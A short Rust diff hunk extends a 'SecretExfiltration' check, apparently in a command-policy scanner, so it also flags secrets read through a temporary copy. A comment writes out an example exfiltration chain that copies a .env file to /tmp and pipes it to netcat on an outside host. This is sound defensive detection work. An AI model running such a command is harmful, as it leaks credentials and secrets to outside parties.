@@ -2058,7 +2058,10 @@ impl Check for SecretExfiltration {
                     if is_host_lookup(p) && static_printer(r) {
                         continue;
                     }
-                    if let Some(s) = reads_secret_in(cx, r) {
+                    // `cat /tmp/e | nc host 9` after `cat .env > /tmp/e`: a copy read.
+                    if let Some(s) = reads_secret_in(cx, r)
+                        .or_else(|| copy_read(r, &copies).map(|c| c.what.clone()))
+                    {
                         out.push(deny(
                             Some(i),
                             span,
